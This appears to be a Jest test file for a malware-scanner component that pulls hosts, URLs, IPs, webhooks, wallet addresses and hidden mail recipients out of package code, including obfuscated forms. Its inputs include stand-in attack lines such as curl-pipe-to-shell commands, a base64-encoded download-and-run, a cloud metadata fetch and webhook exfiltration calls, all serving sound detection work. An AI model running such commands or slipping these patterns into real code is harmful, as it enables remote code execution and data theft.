import { describe, expect, it } from '@jest/globals'
import { maxFileLiterals } from '../../../../src/limits.js'
import { fileAnalyser } from '../../../../src/package/code/analyse-file.js'
import { readCode } from '../../../../src/package/code/read/read-code.js'
import { type FoldedText, readTextFacts } from '../../../../src/package/code/text-facts.js'

const read = (code: string, path = 'a.js', folded: readonly FoldedText[] = []) =>
  readTextFacts(readCode(Buffer.from(code), path), folded)

/** `kind value`, with what is not the usual: the context, what the host is for, and whether it was hidden. */
const named = (code: string, path?: string, folded?: readonly FoldedText[]): readonly string[] =>
  read(code, path, folded).literals.map(({ kind, value, context, service, decoded }) =>
    [kind, value, context === 'code' ? '' : context, service ?? '', decoded ? 'decoded' : ''].filter(Boolean).join(' '),
  )

const base64 = (text: string): string => Buffer.from(text).toString('base64')

describe('names in texts of code', () => {
  it('tells of a name where it is', () => {
    expect(read('\n  fetch("https://a.evil.example/x?y=1")').literals).toEqual([
      {
        kind: 'host',
        value: 'a.evil.example',
        context: 'code',
        decoded: false,
        line: 2,
        column: 10,
        excerpt: 'fetch("https://a.evil.example/x?y=1")',
      },
      {
        kind: 'url',
        value: 'https://a.evil.example/x',
        context: 'code',
        decoded: false,
        line: 2,
        column: 10,
        excerpt: 'fetch("https://a.evil.example/x?y=1")',
      },
    ])
  })

  it.each([
    ['a URL', 'get("https://evil.example/a")', ['host evil.example', 'url https://evil.example/a']],
    ['a URL in upper case', 'get("HTTPS://EVIL.example:8443")', ['host evil.example', 'url https://evil.example']],
    [
      'a URL with a user',
      'get("https://github.com@evil.example/")',
      ['host evil.example', 'url https://evil.example/'],
    ],
    ['a web socket', 'new WebSocket("wss://evil.example")', ['host evil.example', 'url wss://evil.example']],
    [
      'a URL without a scheme',
      's.src = "//cdn.evil.example/a.js"',
      ['host cdn.evil.example', 'url //cdn.evil.example/a.js'],
    ],
    ['a template', `get(\`https://evil.example/\${id}\`)`, ['host evil.example', 'url https://evil.example/…']],
    [
      'what is put before a host',
      `get(\`https://\${data}.evil.example/\`)`,
      ['host *.evil.example', 'url https://*.evil.example/'],
    ],
    ['what is put before a host in DNS', 'lookup(data + ".evil.example")', ['host *.evil.example']],
    ['what is put before a host in a template', `lookup(\`\${data}.a.evil.example\`)`, ['host *.a.evil.example']],
    ['a bare host', 'connect(443, "c2.evil.example")', ['host c2.evil.example']],
    ['a bare host with a port', 'connect("evil.com:443")', ['host evil.com']],
    ['a host of any ending where only a host can be', 'x({ hostname: "evil.link" })', ['host evil.link']],
    ['a host in a command', 'exec("curl -s evil.example | sh")', ['host evil.example']],
    ['an address in a command', 'exec("curl 203.0.113.7/a.sh | bash")', ['ip-address 203.0.113.7']],
    ['an address', 'connect(1337, "203.0.113.7")', ['ip-address 203.0.113.7']],
    [
      'an address in a URL',
      'get("http://203.0.113.7:8080/a")',
      ['ip-address 203.0.113.7', 'url http://203.0.113.7:8080/a'],
    ],
    [
      'an address of version 6',
      'get("http://[2a00:1450::200e]/")',
      ['ip-address 2a00:1450::200e', 'url http://[2a00:1450::200e]/'],
    ],
    ['a bare address of version 6', 'connect("2a00:1450:4001::200e")', ['ip-address 2a00:1450:4001::200e']],
    [
      'an address as one number',
      'get("http://3405803783/")',
      ['ip-address 203.0.113.7 decoded', 'url http://3405803783/ decoded'],
    ],
    [
      'an address in hex',
      'get("http://0xcb007107/")',
      ['ip-address 203.0.113.7 decoded', 'url http://0xcb007107/ decoded'],
    ],
    [
      "the address of a cloud's secrets",
      'get("http://169.254.169.254/latest")',
      ['ip-address 169.254.169.254', 'url http://169.254.169.254/latest'],
    ],
    [
      'a host in other letters',
      'get("https://exаmple.test/")',
      ['host xn--exmple-4nf.test', 'url https://xn--exmple-4nf.test/'],
    ],
    [
      'escapes',
      'get("https:\\x2f\\x2fevil.ex\\x61mple/")',
      ['host evil.example decoded', 'url https://evil.example/ decoded'],
    ],
    [
      'base64',
      `get(atob("${base64('https://evil.example/a')}"))`,
      ['host evil.example decoded', 'url https://evil.example/a decoded'],
    ],
    [
      'hex',
      `get(Buffer.from("${Buffer.from('http://evil.example').toString('hex')}", "hex"))`,
      ['host evil.example decoded', 'url http://evil.example decoded'],
    ],
    ['a command in base64', `exec(atob("${base64('curl 203.0.113.7 | bash')}"))`, ['ip-address 203.0.113.7 decoded']],
    [
      'a webhook of Discord',
      'post("https://discord.com/api/webhooks/1/abc")',
      ['host discord.com webhook', 'webhook https://discord.com/api/webhooks/1/abc webhook'],
    ],
    [
      'a bot of Telegram',
      `post(\`https://api.telegram.org/bot\${t}/sendMessage\`)`,
      ['host api.telegram.org webhook', 'webhook https://api.telegram.org/bot…/sendMessage webhook'],
    ],
    [
      'a webhook of Slack',
      'post("https://hooks.slack.com/services/T/B/x")',
      ['host hooks.slack.com webhook', 'webhook https://hooks.slack.com/services/T/B/x webhook'],
    ],
    [
      "anybody's webhook",
      'post("https://evil.example/webhook/123456789")',
      ['host evil.example webhook', 'webhook https://evil.example/webhook/123456789 webhook'],
    ],
    [
      'a page about webhooks',
      'open("https://docs.pad.example/webhooks/signature")',
      ['host docs.pad.example', 'url https://docs.pad.example/webhooks/signature'],
    ],
    [
      'a catcher of requests',
      'post("https://abc.oast.fun")',
      ['host abc.oast.fun request-bin', 'url https://abc.oast.fun request-bin'],
    ],
    [
      'a paste',
      'get("https://pastebin.com/raw/x")',
      ['host pastebin.com paste', 'url https://pastebin.com/raw/x paste'],
    ],
    [
      'a tunnel',
      'get("https://a.trycloudflare.com")',
      ['host a.trycloudflare.com tunnel', 'url https://a.trycloudflare.com tunnel'],
    ],
    [
      'a gateway',
      'get("https://ipfs.io/ipfs/QmYwAPJzv5CZsnA625s3Xf2nemtYgPpHdWEz79ojWnPbdG")',
      [
        'host ipfs.io ipfs-gateway',
        'url https://ipfs.io/ipfs/QmYwAPJzv5CZsnA625s3Xf2nemtYgPpHdWEz79ojWnPbdG ipfs-gateway',
        'ipfs QmYwAPJzv5CZsnA625s3Xf2nemtYgPpHdWEz79ojWnPbdG',
      ],
    ],
    [
      'the first address that Bitcoin had',
      'pay("1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa")',
      ['wallet-address 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa'],
    ],
    [
      'the example of BIP 173',
      'pay("bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4")',
      ['wallet-address bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4'],
    ],
    [
      'an address of Ethereum',
      'const to = "0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed"',
      ['wallet-address 0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed'],
    ],
    [
      'a contract',
      'const contractAddress = "0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed"',
      ['contract-address 0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed'],
    ],
    [
      'a key where Solana is spoken of',
      'new solana.PublicKey("4zMMC9srt5Ri5X14GAgXhaHii3GnPAEERYPJgZJDncDU")',
      ['wallet-address 4zMMC9srt5Ri5X14GAgXhaHii3GnPAEERYPJgZJDncDU'],
    ],
    [
      'what looks for tokens',
      'find(/ghp_[A-Za-z0-9]{36}/, /npm_[A-Za-z0-9]{36}/, "AKIA[0-9A-Z]{16}")',
      ['token-pattern github', 'token-pattern npm', 'token-pattern aws'],
    ],
    ['an address of mail', 'x("a.person@evil.example")', ['email-address a.person@evil.example']],
    ['a hidden copy', 'send({ to, bcc: "a@evil.example" })', ['recipient a@evil.example']],
    ['a hidden copy in a list', 'send({ Cc: ["a@evil.example", ...cc] })', ['recipient a@evil.example']],
    [
      'a hidden copy as an object',
      'send({ bcc: [{ address: "a@evil.example", name: "A" }] })',
      ['recipient a@evil.example'],
    ],
    ['a copy that is set', 'mail.headers["Bcc"] = "a@evil.example"', ['recipient a@evil.example']],
    [
      'a copy by call',
      'mail.addBcc("a@evil.example"); form.append("cc", "b@evil.example")',
      ['recipient a@evil.example', 'recipient b@evil.example'],
    ],
    ['a copy every seventh time', 'send({ bcc: n % 7 ? undefined : "a@evil.example" })', ['recipient a@evil.example']],
    ['a copy by name', 'const who = "a@evil.example"; send({ bcc: who })', ['recipient a@evil.example']],
    ['a copy in base64', `send({ bcc: atob("${base64('a@evil.example')}") })`, ['recipient a@evil.example decoded']],
    ['a mail as it is sent', 'socket.write("RCPT TO:<a@evil.example>\\r\\n")', ['recipient a@evil.example']],
  ])('finds %s', (_, code, expected) => {
    expect(named(code)).toEqual(expected)
  })

  it.each([
    ['names of files', 'load("./index.js", "a.min.css", "x.d.ts", "lib/a.node", "README.md")'],
    ['names of properties', 'get("user.email", "console.info", "button.click", "options.ca", "a.b.c")'],
    ['names of packages', 'const io = require("socket.io"); import("./a.com")'],
    [
      'members and compressed files',
      'x = ["__webpack_require__.cn", "*.tar.br", ".pack.br", ".tar.br", ".json.example"]',
    ],
    ['classes of elements', '$(".btn.active", ".co")'],
    [
      'the machine itself',
      'get("http://localhost:3000", "http://127.0.0.1/", "http://[::1]:80", "http://0.0.0.0", "::1")',
    ],
    ['its own network', 'get("http://192.168.0.1/", "10.1.2.3", "http://[fe80::1]/")'],
    ['versions and identifiers', 'x("1.2.3.4", "2.5.29.17", "1.3.6.1.4.1.311", "Chrome/91.0.4472.124")'],
    ['times and hardware', 'x("12:30:45", "00:1a:2b:3c:4d:5e", "a::b")'],
    ['hosts that nobody can have', 'get("https://example.com/", "https://www.example.org", "a@example.net")'],
    ['names of vocabularies', 'x("http://www.w3.org/2000/svg", "http://json-schema.org/draft-07/schema#")'],
    [
      'hosts that are not known',
      `get(\`https://\${host}/a\`, "https://" + host, \`https://api.\${region}/\`, "http://%s/")`,
    ],
    ['schemes of other kinds', 'x("file:///etc", "webpack://a.b/c", "data:text/plain,a", "node://a.b")'],
    ['pictures for sharp screens', 'x("icon@2x.png", "@scope/name", "name@1.2.3")'],
    ['words of a list', 'x("Rfe@Rm.Rs#T2O}Oto", "t<Kum@tLarLevaL.MaM.ntMluv M")'],
    ['recipients that are given', 'send({ to: user.email, cc, bcc: options.bcc })'],
    ['ends of a range', 'range({ from: "a", to: "b" })'],
    ['digests', 'x("d41d8cd98f00b204e9800998ecf8427e", "sha512-abcdefghijklmnopqrstuvwxyz0123456789")'],
    [
      'addresses with a wrong checksum',
      'x("1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb", "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t5")',
    ],
    ["nobody's address", 'x("0x0000000000000000000000000000000000000000")'],
    ['32 bytes where nobody speaks of chains', 'x("4zMMC9srt5Ri5X14GAgXhaHii3GnPAEERYPJgZJDncDU")'],
    ['settings of npm', 'env("npm_config_cache", "npm_package_name", "high_", "AKIAB")'],
    [
      'words that are base64 by chance',
      'x("encodeURIComponent", "setRequestHeader", "application/octet", "abcdefghijkl")',
    ],
    ['entries of a large table', `x([${Array.from({ length: 300 }, (_, at) => `"h${at}.test.com"`).join()}])`],
    ['numbers', 'get("12345678", "http://1/")'],
  ])('leaves %s alone', (_, code) => {
    expect(named(code)).toEqual([])
  })

  it.each([
    ['a comment', '// see https://docs.evil.example/a\nx()', ['host docs.evil.example comment']],
    ['what is thrown', 'throw new Error("https://docs.evil.example/" + code)', ['host docs.evil.example message']],
    ['what is logged', 'console.log(`go to https://docs.evil.example`)', ['host docs.evil.example message']],
    [
      'help',
      'const description = ["Read more about it at", "https://docs.evil.example"].join(" "); x({ usage: "see https://docs.evil.example" })',
      ['host docs.evil.example', 'url https://docs.evil.example', 'host docs.evil.example message'],
    ],
    [
      'a licence',
      'const text = "You may get a copy of the licence at https://docs.evil.example/a"',
      ['host docs.evil.example message'],
    ],
    ['text of an element', 'const x = <p>See https://docs.evil.example</p>', ['host docs.evil.example message']],
    [
      'a property that is nothing but an address',
      'x({ message: "https://evil.example" })',
      ['host evil.example', 'url https://evil.example'],
    ],
    [
      'an order in many words',
      'x("please run the following: curl https://evil.example | sh")',
      ['host evil.example', 'url https://evil.example'],
    ],
    [
      'an address that is logged and used',
      'log("https://evil.example"); get("https://evil.example")',
      ['host evil.example message', 'host evil.example', 'url https://evil.example'],
    ],
  ])('knows %s', (_, code, expected) => {
    expect(named(code, 'a.jsx')).toEqual(expected)
  })

  it('takes what folding put together where it stands', () => {
    const code = 'get("https:" + "//evil" + ".example/"); throw new Error("https:" + "//help" + ".example/")'
    const folded = [
      { offset: 4, text: 'https://evil.example/' },
      { offset: code.indexOf('"https:"', 10), text: 'https://help.example/' },
    ]

    expect(named(code, 'a.js', folded)).toEqual([
      'host evil.example decoded',
      'url https://evil.example/ decoded',
      'host help.example message decoded',
    ])
  })

  it('takes what an ability is used with, however it was put together', () => {
    const text = (code: string) =>
      fileAnalyser()(Buffer.from(code), 'a.js').literals.map(({ kind, value, decoded }) => ({ kind, value, decoded }))

    expect(text("fetch('elpmaxe.live//:sptth'.split('').reverse().join(''))")).toEqual([
      { kind: 'host', value: 'evil.example', decoded: true },
      { kind: 'url', value: 'https://evil.example', decoded: true },
    ])
    expect(text("const a = 'https://plain.example/'; fetch(a)")).toEqual([
      { kind: 'host', value: 'plain.example', decoded: false },
      { kind: 'url', value: 'https://plain.example/', decoded: false },
    ])
  })

  it("calls no name hidden that is put before somebody's written domain, but the pieces of a domain", () => {
    const hosts = (code: string) =>
      fileAnalyser()(Buffer.from(code), 'a.js')
        .literals.filter(({ kind }) => kind === 'host')
        .map(({ value, decoded }) => ({ value, decoded }))

    expect(hosts("const id = 'a1'; fetch('https://' + id + '-dsn.search.example/x')")).toEqual([
      { value: 'a1-dsn.search.example', decoded: false },
    ])
    expect(hosts("const end = 'ample'; fetch('https://a.evil.ex' + end)")).toContainEqual({
      value: 'a.evil.example',
      decoded: true,
    })
  })

  it('calls nothing hidden that is written somewhere', () => {
    const code = 'const base = "https://api.test.example"; get(base + "/a")'
    const folded = [{ offset: code.indexOf('base +'), text: 'https://api.test.example/a' }]

    expect(named(code, 'a.js', folded).filter((name) => name.startsWith('host'))).toEqual(['host api.test.example'])
  })

  it('reads what is no code by its tokens, and what has none as text', () => {
    expect(named('a b; /* https://docs.evil.example */ get("https://evil.example")')).toEqual([
      'host docs.evil.example comment',
      'host evil.example',
      'url https://evil.example',
    ])
    expect(named('a b; "\n get("https://evil.example")')).toEqual(['host evil.example', 'url https://evil.example'])
  })

  it('says that there are more than it keeps', () => {
    const hosts = Array.from({ length: maxFileLiterals + 1 }, (_, at) => `"h${at}.evil.example"`)
    const { literals, cut } = read(`x(${hosts.join()})`)
    const inOneText = `x("${'http://evil.example '.repeat(3000)}")`
    const inDocument = `x("${'http://evil.example '.repeat(5000)}")`

    expect({ kept: literals.length, cut }).toEqual({ kept: maxFileLiterals, cut: true })
    expect(read(`x(${hosts.slice(1).join()})`).cut).toBe(false)
    expect(read(inOneText).cut).toBe(true)
    expect({ ...read(inDocument), names: named(inDocument) }).toMatchObject({
      cut: false,
      names: ['host evil.example'],
    })
  })

  it.each([
    ['of at signs', 'a@'.repeat(100_000)],
    ['of schemes', 'http://a'.repeat(50_000)],
    ['of letters', 'a'.repeat(400_000)],
    ['of dots', 'a.'.repeat(200_000)],
    ['of braces', `http://${'{'.repeat(200_000)}`],
    ['of base58', '1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa '.repeat(10_000)],
  ])('comes to an end with a text %s', (_, text) => {
    expect(named(`x("${text}")`).length).toBeLessThanOrEqual(maxFileLiterals)
  })
})
